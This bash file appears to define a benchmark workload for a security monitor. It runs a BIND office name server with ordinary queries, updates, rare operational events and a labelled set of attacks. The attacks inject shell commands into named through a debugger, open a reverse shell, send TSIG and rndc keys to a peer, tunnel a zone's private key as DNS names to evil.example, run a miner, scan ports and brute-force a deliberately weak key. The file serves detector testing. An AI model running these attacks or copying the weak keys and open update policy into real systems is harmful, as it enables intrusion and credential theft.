# shellcheck shell=bash
# SPDX-License-Identifier: Apache-2.0
#
# BIND as the name server of an office: zones of its own, two of them signed, two changed over the network, one
# transferred from a partner, one that blocks names; all other names come from the provider. A secondary
# transfers its zones. TLS, HTTPS, figures over HTTP, query logs that it rotates. Its configuration and the
# other name servers are in services/bind.
#
# Two faults of its configuration are common: every address of the office may change the machines' zone and
# transfer all zones, and one key's secret is a word.

# shellcheck disable=SC2034,SC2154 # lib.bash and rare.bash read variables of this file, and set others
# shellcheck source=bench/dataset/databases.bash
. "${here:?}/databases.bash"

set=test containers=(bind) port=53 data_directory=/var/lib/bind
configuration_file=/etc/bind/named.conf.local
health=(/usr/bin/dig @127.0.0.1 +time=2 +short www.office.example)
image_packages=(bind9 bind9-utils bind9-dnsutils bind9-host bash coreutils findutils grep sed gzip dash base-files
	libc-bin netbase tzdata hostname procps)
rare_own=(zone_added key_rollover broken_zone broken_configuration provider_gone partner_gone secondary_gone
	journals_lost cache_dumped traced key_changed zone_compiled certificate large_zone many_connections
	zone_moved stale_answers)
# There is one process.
rare_not=(worker_killed)

image_prepare() {
	local tree=$1 etc=$1/etc/bind lib=$1/var/lib/bind i
	echo 'bind:x:105:111::/var/cache/bind:/usr/sbin/nologin' >>"$tree/etc/passwd"
	echo 'bind:x:111:' >>"$tree/etc/group"
	mkdir -p "$etc/tls" "$lib/keys" "$tree"/var/cache/bind "$tree"/var/log/named "$tree"/run/named
	cp "$here"/services/bind/named.conf* "$etc/"
	printf 'key "rndc-key" {\n\talgorithm hmac-sha256;\n\tsecret "%s";\n};\n' "$(head -c 32 /dev/urandom | base64)" \
		>"$etc/rndc.key"
	keys_of_clients >"$etc/update.key"
	openssl req -x509 -newkey rsa:2048 -nodes -days 3650 -subj /CN=service.example -keyout "$etc/tls/key.pem" \
		-out "$etc/tls/cert.pem" 2>/dev/null
	{
		zone_head 60
		printf 'office.example.rpz-log TXT "names that are blocked"\n'
		for i in $(seq 300); do
			printf 'ad%d.block.example CNAME .\n*.ad%d.block.example CNAME .\n' "$i" "$i"
		done
	} >"$etc/db.rpz"
	office_zone 40 >"$lib/office.example.zone"
	{
		zone_head 60
		for i in $(seq 40); do
			printf 'machine%d A 10.88.2.%d\nmachine%d TXT "room %d"\n' "$i" "$i" "$i" "$((i % 7))"
		done
	} >"$lib/machines.example.zone"
	{
		zone_head 60
		for i in $(seq 40); do
			printf '%d.2 PTR machine%d.machines.example.\n' "$i" "$i"
		done
	} >"$lib/88.10.in-addr.arpa.zone"
	{
		zone_head 60
		printf 'www A 10.88.1.9\n_acme-challenge TXT none\n_sip._udp SRV 1 1 5060 www\n@ CAA 0 issue "ca.example"\n'
	} >"$lib/services.example.zone"
	chown -R 0:111 "$etc" "$lib" "$tree"/var/cache/bind "$tree"/var/log/named "$tree"/run/named
	chown -R 105:111 "$lib"/keys "$lib"/*.zone "$etc"/rndc.key
	chmod 2775 "$lib" "$tree"/var/cache/bind "$tree"/var/log/named "$tree"/run/named
	chmod 640 "$etc"/{rndc.key,update.key} "$etc/tls/key.pem"
	chmod 750 "$lib/keys"
}

keys_of_clients() {
	printf 'key "%s" { algorithm hmac-sha256; secret "%s"; };\n' secondary "$(printf secondary-secret | base64)" \
		dhcp "$(printf b0ee1f6ad55c82f7e81a | base64)" acme "$(printf sunshine | base64)"
}

# key_of NAME SECRET: as dig and nsupdate take it.
key_of() {
	echo "hmac-sha256:$1:$(printf %s "$2" | base64)"
}

# zone_head TTL
zone_head() {
	# shellcheck disable=SC2016 # of zone files
	printf '$TTL %d\n@ SOA ns.office.example. admin.office.example. 100 60 30 600 10\n@ NS ns.office.example.\n' "$1"
}

# office_zone HOSTS
office_zone() {
	local i
	zone_head 120
	printf 'ns A 10.88.0.2\nwww A 10.88.1.8\nmail A 10.88.1.9\n@ MX 10 mail\n@ TXT "v=spf1 mx -all"\nftp CNAME www\n'
	printf '_ldap._tcp SRV 1 1 389 ldap\nldap A 10.88.1.7\n*.apps A 10.88.1.6\nlab NS ns.lab\nns.lab A 10.88.0.1\n'
	printf 'large TXT "%0250d" "%0250d" "%0250d" "%0250d" "%0250d" "%0250d"\n' 1 2 3 4 5 6
	for ((i = 1; i <= $1; i++)); do
		printf 'host%d A 10.88.1.%d\nhost%d AAAA fd00::%x\n' "$i" "$((i % 250))" "$i" "$i"
	done
}

# As Debian's unit starts it.
container_fields() {
	arguments=(/usr/sbin/named -f -u bind)
	volumes=(/var/lib/bind /var/cache/bind /var/log/named)
	tmpfs=(/tmp)
}

# The provider's name server; the partner's, and our secondary.
peers() {
	provider_start
	partner_start
}

provider_start() {
	peer_start provider dnsmasq --keep-in-foreground --no-daemon --conf-file=/dev/null --no-resolv --no-hosts \
		--port=5353 --listen-address="$peer_address" --bind-interfaces --user=root --pid-file= --local-ttl=20 \
		--address=/world.example/10.88.2.1 --address=/lab.example/10.88.2.2 --local=/example/ --log-queries \
		--mx-host=world.example,mail.world.example,5 --txt-record=world.example,"v=spf1 -all" \
		--cname=www.world.example,front.world.example \
		--txt-record=big.world.example,"$(printf '%0250d' 1)","$(printf '%0250d' 2)","$(printf '%0250d' 3)" \
		--srv-host=_sip._udp.world.example,sip.world.example,5060 --log-facility=-
}

partner_start() {
	peer_start partner python3 -c "$(cat "$here/services/bind/partner.py")" "$peer_address" "$own_address"
}

# ask_name NAME… [OPTION…]: of the service.
ask_name() {
	client dig "@$own_address" +time=3 +tries=2 "$@"
}

# Both zones are signed, and the partner's is there.
ready() {
	[ -n "$(ask_name www.office.example +short)" ] && [ -n "$(ask_name host1.partner.example +short)" ] &&
		ask_name www.office.example +dnssec | grep -q RRSIG && ask_name www.services.example +dnssec | grep -q RRSIG
}

# ---- ordinary work ----

request() {
	local n names
	n=$(between 1 40)
	case $((RANDOM % 24)) in
	0 | 1 | 2) ask_name "host$n.world.example" "host$((n / 8)).world.example" "host$n.office.example" ;;
	3) ask_name "host$n.office.example" AAAA "$(pick +tcp +tls +https +dnssec)" ;;
	4) ask_name -x "10.88.2.$n" +short ;;
	5) ask_name "$(pick ad x.ad y.ad)$n.block.example" ;;
	6) ask_name "none$RANDOM.$(pick world office lab machines services).example" "$(pick +nodnssec +dnssec)" ;;
	7) ask_name "$(pick office services world partner).example" "$(pick MX TXT NS SOA DNSKEY CAA)" +dnssec ;;
	8) ask_name "$(pick large.office big.world).example" TXT ;;
	9) ask_name "$(pick _ldap._tcp.office _sip._udp.world _sip._udp.services).example" SRV ;;
	10) ask_name "$(pick ftp.office x.apps.office www.world peer x.lab host2.partner)".example "$(pick A AAAA ANY)" ;;
	11) ask_name "$(pick version.bind hostname.bind id.server)" chaos TXT +short ;;
	12)
		mapfile -t names < <(seq -f 'host%g.world.example' "$n" "$((n + 20))")
		ask_name "${names[@]}" "$(pick +notcp +tcp +keepopen)"
		;;
	13 | 14) lease_update "$n" ;;
	15) machine_update "$n" ;;
	16) certificate_update "$n" ;;
	17) ask_name -y "$(key_of secondary secondary-secret)" "$(pick machines services office).example" \
		"$(pick AXFR IXFR=1 IXFR=100 IXFR=105)" ;;
	18) ask_name "machine$n.machines.example" "$(pick A TXT ANY)" +nsid "$(pick +cookie +bufsize=512)" ;;
	19) client curl -sS -o /dev/null "http://$own_address:8053/$(pick '' json/v1 xml/v3/zones json/v1/net none)" ;;
	20) client curl -sSk -o /dev/null "https://$own_address/dns-query?dns=AAABAAABAAAAAAAAA3d3dwZvZmZpY2UHZXhhbXBsZQAAAQAB" ;;
	21) ask_name -y "$(key_of secondary "$(pick wrong secondary-secret)")" "host$n.office.example" ;;
	22) client host -a "host$n.office.example" "$own_address" ;;
	23) ask_name "www$RANDOM.world.example" +norecurse "www.elsewhere.test" ;;
	esac
}

# update KEY COMMANDS: a change of a zone; no key if it is empty.
update() {
	printf 'server %s\n%b\nsend\n' "$own_address" "$2" | client_stdin nsupdate -t 5 ${1:+-y "$1"}
}

# lease_update NUMBER: what a DHCP server does with a lease, or its end.
lease_update() {
	local key name=lease$1.machines.example
	key=$(key_of dhcp b0ee1f6ad55c82f7e81a)
	if chance 70; then
		update "$key" "prereq nxdomain $name\nupdate add $name 60 A 10.88.3.$1\nupdate add $name 60 TXT \"$RANDOM\""
		update "$key" "update delete $1.3.88.10.in-addr.arpa PTR\nupdate add $1.3.88.10.in-addr.arpa 60 PTR $name."
	else
		update "$key" "update delete $name"
		update "$key" "update delete $1.3.88.10.in-addr.arpa"
	fi
}

# A machine says where it is; now and then its name is taken.
machine_update() {
	update '' "zone machines.example\nprereq $(pick nxdomain yxdomain yxdomain) machine$1.machines.example\n\
update delete machine$1.machines.example A\nupdate add machine$1.machines.example 60 A 10.88.2.$(between 1 250)"
}

# A certificate authority's challenge; who has this key may change nothing else.
certificate_update() {
	update "$(key_of acme sunshine)" "update add $(pick _acme-challenge.www _acme-challenge _acme-challenge \
www).services.example 60 TXT \"challenge$RANDOM\""
	sleep 1
	update "$(key_of acme sunshine)" "update delete _acme-challenge.services.example TXT"
}

# rndc COMMAND…: as the administrator gives it, in the container.
rndc() {
	session bind /usr/sbin/rndc "$@"
}

reload_service() {
	rndc reload
}

# zone_file NAME
zone_file() {
	echo "$(volume_path bind /var/lib/bind)/$1.example.zone"
}

# zone_edit NAME SED_COMMAND: with the next serial.
zone_edit() {
	local file serial
	file=$(zone_file "$1")
	serial=$(sed -n 's/.*SOA.* admin\.office\.example\. \([0-9]\+\) .*/\1/p; s/^\s*\([0-9]\+\)\s*; serial$/\1/p' "$file")
	sed -i -e "/ SOA \|; serial/s/\b$serial\b/$((serial + 1))/" -e "$2" "$file"
}

# Another address of a host in the signed zone; a machine in the zone that also changes over the network; names of
# services; the figures, and a look at what goes on.
administer() {
	zone_edit office "s/^host7 A .*/host7 A 10.88.1.$(between 100 200)/"
	rndc reload office.example
	rndc freeze machines.example
	zone_edit machines "s/^\(machine9\s\+A\s\+\).*/\110.88.2.$(between 100 200)/"
	rndc thaw machines.example
	session bind /bin/sh -c "printf 'update delete api.services.example\nupdate add api.services.example 60 A \
10.88.1.$(between 1 99)\nsend\n' | nsupdate -l"
	session bind /bin/sh -c 'named-checkconf && rndc status && rndc dnssec -status office.example && rndc zonestatus office.example'
	rndc stats
	rndc "$(pick flush 'flushname www.world.example' 'notify office.example' 'refresh partner.example' recursing)"
	rndc sync -clean "$(pick machines services).example"
	session bind /bin/sh -c 'rndc querylog off; sleep 1; rndc querylog on; gzip -f /var/log/named/query.log.1; \
		rm -f /var/log/named/query.log.1.gz; tail -n 3 /var/log/named/changes.log'
	reload_service
}

# ---- rare events ----

rare_zone_added() {
	local file
	file=$(zone_file new)
	{ zone_head 60 && echo 'www A 10.88.1.70'; } >"$file"
	chown 105:111 "$file"
	rndc addzone new.example '{ type primary; file "/var/lib/bind/new.example.zone"; };'
	ask_name www.new.example +short
	rndc showzone new.example
	sleep 2
	rndc delzone -clean new.example
}

rare_key_rollover() {
	lasts
	local key
	key=$(find "$(volume_path bind /var/lib/bind)/keys" -name 'Koffice.example*.key' -exec grep -l 'zone-signing' {} + |
		head -n 1)
	key=${key##*+}
	key=${key%.key}
	rndc dnssec -rollover -key "$((10#$key))" office.example
	sleep 3
	rndc dnssec -status office.example
	ask_name office.example DNSKEY +dnssec
}

# It goes on with the zone that it has.
rare_broken_zone() {
	local file
	file=$(zone_file office)
	cp -p "$file" "$file.good"
	echo 'host1 A 10.88.1.300' >>"$file"
	rndc reload office.example
	sleep 2
	mv "$file.good" "$file"
	zone_edit office 's/^host2 A .*/host2 A 10.88.1.22/'
	rndc reload office.example
}

rare_broken_configuration() {
	local file
	file=$(image_path bind /etc/bind/named.conf.local)
	cp -p "$file" "$file.good"
	echo 'zone "broken" { type primary' >>"$file"
	session bind /usr/bin/named-checkconf
	rndc reconfig
	sleep 2
	mv "$file.good" "$file"
	rndc reconfig
}

rare_provider_gone() {
	peer_stop provider
	sleep 15
	provider_start
}

# Its zone cannot be refreshed.
rare_partner_gone() {
	peer_stop partner
	rndc refresh partner.example
	sleep 12
	partner_start
	rndc retransfer partner.example
}

# The secondary stopped in the midst of transfers, and wants all of the zones.
rare_secondary_gone() {
	in_network timeout 2 bash -c "exec 3<>/dev/tcp/$own_address/53; printf '\0\x10abc' >&3; sleep 1" || true
	ask_name -y "$(key_of secondary secondary-secret)" office.example AXFR +time=1 | head -n 2
	ask_name -y "$(key_of secondary secondary-secret)" office.example services.example machines.example AXFR
}

# After a crash, or a copy from a backup: the changes since the last sync are lost.
rare_journals_lost() {
	rndc freeze machines.example
	find "$(volume_path bind /var/lib/bind)" -name 'machines.example.zone.jnl' -delete
	rndc thaw machines.example
	machine_update 3
}

rare_cache_dumped() {
	rndc dumpdb -all
	sleep 2
	rndc secroots
	rndc recursing
	session bind /bin/sh -c 'grep -c world /var/cache/bind/named_dump.db; rm /var/cache/bind/named_dump.db'
}

rare_traced() {
	rndc trace 3
	ask_name host3.world.example www.office.example
	sleep 3
	rndc notrace
	session bind /bin/sh -c 'ls -la /var/cache/bind; tail -n 20 /var/log/named/named.log'
}

# A key is new, as after a theft.
rare_key_changed() {
	local key
	keep_file bind /etc/bind/update.key
	undo rndc reconfig
	key=$(session bind /usr/sbin/tsig-keygen -a hmac-sha256 newdhcp)
	[ -n "$key" ] || key='key "newdhcp" { algorithm hmac-sha256; secret "bmV3LXNlY3JldA=="; };'
	echo "$key" >>"$(image_path bind /etc/bind/update.key)"
	rndc reconfig
	rndc tsig-list
}

rare_zone_compiled() {
	session bind /usr/bin/named-checkzone office.example /var/lib/bind/office.example.zone
	session bind /bin/sh -c 'named-compilezone -o - machines.example /var/lib/bind/machines.example.zone | sort | head -n 5
		named-journalprint /var/lib/bind/machines.example.zone.jnl | tail -n 5'
}

rare_certificate() {
	local tls
	lasts
	tls=$(image_path bind /etc/bind/tls)
	openssl req -x509 -newkey rsa:2048 -nodes -days 30 -subj /CN=service.example -keyout "$stage/key.pem" \
		-out "$tls/cert.pem.new" 2>/dev/null
	cat "$stage/key.pem" >"$tls/key.pem"
	mv "$tls/cert.pem.new" "$tls/cert.pem"
	rndc reconfig
	sleep 1
	ask_name www.office.example +tls
}

# A branch office joins: many names in one change.
rare_large_zone() {
	local file
	keep_file bind /etc/bind/named.conf.local
	keep_file bind /var/lib/bind/branch.example.zone
	undo rndc reconfig
	file=$(zone_file branch)
	office_zone 6000 >"$file"
	chown 105:111 "$file"
	printf 'zone "branch.example" { type primary; file "/var/lib/bind/branch.example.zone"; };\n' \
		>>"$(image_path bind /etc/bind/named.conf.local)"
	rndc reconfig
	sleep 3
	ask_name host5999.branch.example host3.branch.example
	ask_name branch.example AXFR | tail -n 3
}

# More than it takes over TCP.
rare_many_connections() {
	client python3 -c 'import socket, sys, time
taken = [socket.create_connection((sys.argv[1], 53), 1) for i in range(60)]
time.sleep(5)' "$own_address"
}

# A zone becomes a secondary's: its file moves.
rare_zone_moved() {
	undo rndc freeze services.example
	undo session bind /bin/sh -c 'cp -p /var/lib/bind/services.moved /var/lib/bind/services.example.zone &&
		sed -i s,/var/lib/bind/services.moved,/var/lib/bind/services.example.zone, /etc/bind/named.conf.local &&
		rm -f /var/lib/bind/services.moved*'
	undo rndc reconfig
	undo rndc thaw services.example
	rndc sync -clean services.example
	rndc freeze services.example
	session bind /bin/sh -c 'cp -p /var/lib/bind/services.example.zone /var/lib/bind/services.moved &&
		sed -i s,/var/lib/bind/services.example.zone,/var/lib/bind/services.moved, /etc/bind/named.conf.local'
	rndc reconfig
	rndc thaw services.example
	certificate_update 1
}

# While the provider is gone, old answers count.
rare_stale_answers() {
	keep_file bind /etc/bind/named.conf.options
	undo rndc reconfig
	sed -i 's/^\tforward only;/\tforward only;\n\tstale-answer-enable yes;\n\tmax-stale-ttl 1h;/' \
		"$(image_path bind /etc/bind/named.conf.options)"
	rndc reconfig
	ask_name www.world.example
	peer_stop provider
	sleep 8
	ask_name www.world.example
	rndc serve-stale status
	provider_start
}

# ---- attacks ----

# named_shell COMMANDS: a shell that code inside named starts.
named_shell() {
	inject_pid "${container_pid[bind]}" "call (int) system(\"${1//$'\n'/ }\")"
}

attack_code_shell() {
	harm exec /usr/bin/dash
	harm exec /usr/bin/id
	harm read /etc/bind/update.key
	harm write /tmp/out
	named_shell 'id >/tmp/out; cat /etc/bind/update.key >>/tmp/out'
	grep -q uid=105 "$(image_path bind /tmp/out)" && grep -q secondary "$(image_path bind /tmp/out)"
}

attack_reverse_shell() {
	harm exec /usr/bin/bash
	harm connect "$peer_address:4444"
	harm exec /usr/bin/id
	thief_shell 'id; cat /etc/bind/rndc.key; ls -la /var/lib/bind/keys; exit'
	named_shell "bash -c 'exec bash -i >/dev/tcp/$peer_address/4444 2>&1 <&1'"
	thief_got uid=105
}

# Code inside named sends the keys of its clients away; no program is started.
attack_code_connect() {
	harm read /etc/bind/update.key
	harm connect "$peer_address:4444"
	thief_begin
	code_steal bind named /etc/bind/update.key
	thief_got secondary
}

# Machine code in memory that becomes executable.
attack_code_machine() {
	harm call mprotect
	code_machine bind named | grep '= 42'
}

# A library that code inside named loads: it sends the key of the administrator.
attack_library_loaded() {
	harm write /tmp/.cache.so
	harm mapx /tmp/.cache.so
	harm read /etc/bind/rndc.key
	harm connect "$peer_address:4444"
	thief_begin
	preload_library "$(image_path bind /tmp/library)" /etc/bind/rndc.key
	inject_pid "${container_pid[bind]}" 'call (int) system("cat /tmp/library >/tmp/.cache.so")' \
		'print (void *) dlopen("/tmp/.cache.so", 2)'
	thief_got rndc-key
}

attack_miner() {
	mining_begin /tmp/.kworkerd
	named_shell "$mining_command"
	pool_got
}

attack_scan() {
	harm exec /usr/bin/bash
	harm connect "$peer_address:22"
	# shellcheck disable=SC2016 # the container's shell
	named_shell "bash -c 'for p in 21 22 23 25 53 80 443 3306 5302 5432 6379 8080 {9000..9100}; do
		(exec 3<>/dev/tcp/$peer_address/\$p) && echo \$p; done >/tmp/open 2>/dev/null'"
	grep -qx 5302 "$(image_path bind /tmp/open)"
}

# Ways out of a container, each tried by code inside named.
attack_escape() {
	code_escapes "${container_pid[bind]}"
}

# A bank's zone of the thief's, by the administrator's own tool.
attack_zone_added() {
	harm exec /usr/sbin/rndc
	harm write /var/lib/bind/bank.zone
	harm read /etc/bind/rndc.key
	{ zone_head 60 && echo 'www A 10.88.66.6'; } >"$(image_path bind /tmp/bank)"
	echo 'rndc addzone bank.example "{ type primary; file \"/var/lib/bind/bank.zone\"; };"' \
		>"$(image_path bind /tmp/commands)"
	# named answers only once the debugger has left it.
	named_shell 'cat /tmp/bank >/var/lib/bind/bank.zone; (sleep 2; sh /tmp/commands) >/dev/null 2>&1 &'
	until_true 20 bank_is_the_thiefs
}

bank_is_the_thiefs() {
	[ "$(ask_name www.bank.example +short)" = 10.88.66.6 ]
}

# Names carry the private key of a zone to the thief's name server.
attack_dns_tunnel() {
	harm read '/var/lib/bind/keys/Koffice.example.*.private'
	harm exec /usr/bin/od
	harm exec /usr/bin/host
	peer_start thief dnsmasq --keep-in-foreground --no-daemon --conf-file=/dev/null --no-resolv --no-hosts \
		--port=6666 --listen-address="$peer_address" --bind-interfaces --user=root --pid-file= \
		--address=/evil.example/10.88.66.6 --log-queries --log-facility=-
	# shellcheck disable=SC2016 # the container's shell
	echo 'for x in $(cat /var/lib/bind/keys/Koffice.example.*.private | head -c 64 | od -An -v -tx1 -w16 | tr -d " ")
do host -W 2 -p 6666 $x.evil.example '"$peer_address"'; done' >"$(image_path bind /tmp/commands)"
	named_shell 'sh /tmp/commands'
	thief_got "$(printf 'Private-key' | od -An -tx1 | tr -d ' \n').*evil.example"
}

# The secret of one key is a word.
attack_brute_force() {
	local p
	harm write /var/lib/bind/services.example.zone.jnl
	for p in 123456 password qwerty letmein dragon monkey {1..20} football iloveyou master summer sunshine; do
		! update "$(key_of acme "$p")" 'update add _acme-challenge.www.services.example 60 TXT "thief"' || break
	done
	ask_name _acme-challenge.www.services.example TXT +short | grep thief
}

# ---- adaptive: known calls, files and peers only ----

# Every zone as a whole and all that changed in them, by an address that may have them.
adaptive_zones_transferred() {
	local zone
	harm read '/var/lib/bind/*.jnl'
	for zone in office services machines; do
		ask_name "$zone.example" AXFR
		ask_name "$zone.example" IXFR=100
	done | grep -c 'IN.*A.*10\.88\.' | grep -E '^[0-9]{2,}$'
	ask_name 88.10.in-addr.arpa AXFR | grep -c PTR
}

# By one who may change the zone of machines: all of them are the thief's.
adaptive_records_tampered() {
	local n commands='zone machines.example'
	harm write /var/lib/bind/machines.example.zone.jnl
	for n in $(seq 40); do
		commands+="\nupdate delete machine$n.machines.example A\nupdate add machine$n.machines.example 60 A 10.88.66.6"
	done
	update '' "$commands"
	[ "$(ask_name machine7.machines.example machine31.machines.example +short | grep -c 10.88.66.6)" = 2 ]
}

# A machine of the office carries data away as names, which named asks of the provider.
adaptive_client_tunnel() {
	local names
	harm connect "$peer_address:5353"
	mapfile -t names < <(seq 3000 | sha512sum | fold -w 2 | head -n 60 | sed 's/ *-*$/secret.up.world.example/')
	ask_name "${names[@]}" +short >/dev/null
	ask_name "$(printf stolen-data | od -An -tx1 | tr -d ' \n').up.world.example" >/dev/null
	until_true 10 grep -q "$(printf stolen-data | od -An -tx1 | tr -d ' \n').up.world.example" "$stage/peer-provider.log"
}

# Code inside named reads its keys and sends them, as a name, to its own provider.
adaptive_dns_exfiltration() {
	harm read /etc/bind/update.key
	harm send "$peer_address:5353"
	# A socket of its own: named makes one for each question, too.
	# shellcheck disable=SC2016 # of gdb
	inject_pid "${container_pid[bind]}" 'set $buffer = (char *) calloc(1, 512)' \
		'set $fd = (int) open("/etc/bind/update.key", 0)' 'set $n = (long) read($fd, $buffer + 13, 60)' \
		'call (int) close($fd)' 'set $s = (int) socket(2, 2, 0)' 'set $address = (char *) calloc(1, 16)' \
		'set *(short *) $address = 2' 'set *(unsigned short *) ($address + 2) = (unsigned short) 0xe914' \
		'set *(unsigned int *) ($address + 4) = (unsigned int) 0x0100580a' \
		'set *(char *) ($buffer + 2) = 1' 'set *(char *) ($buffer + 5) = 1' 'set *(char *) ($buffer + 12) = 60' \
		'call (void *) memcpy($buffer + 73, "\005world\007example\000\000\001\000\001", 19)' \
		'print (long) syscall(44, $s, $buffer, 92, 0, $address, 16)' 'call (int) close($s)' |
		grep -cE '= 92$'
	until_true 10 grep -q 'query.*secondary' "$stage/peer-provider.log"
}
